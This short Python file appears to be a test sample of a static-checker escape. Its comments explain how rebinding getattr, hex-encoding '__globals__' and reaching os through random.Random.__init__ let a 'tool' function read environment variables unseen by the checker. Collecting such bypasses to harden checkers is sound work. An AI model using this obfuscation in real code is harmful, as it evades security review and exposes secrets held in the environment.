# family: computed
# Escape: "getattr = getattr" gives the module a binding named getattr, so the checker no longer treats the
# later value use as the builtin; at run time the right-hand side is still the builtin getattr. "fetch" is
# then getattr under another name, called with a decoded "__globals__": random.Random.__init__ is a Python
# function whose globals hold "_os" (random does "import os as _os").
import random

getattr = getattr
fetch = getattr


def tool(key: str) -> str:
    name = bytes.fromhex("5f5f676c6f62616c735f5f").decode()
    return fetch(random.Random.__init__, name)["_os"].environ.get(key, "")
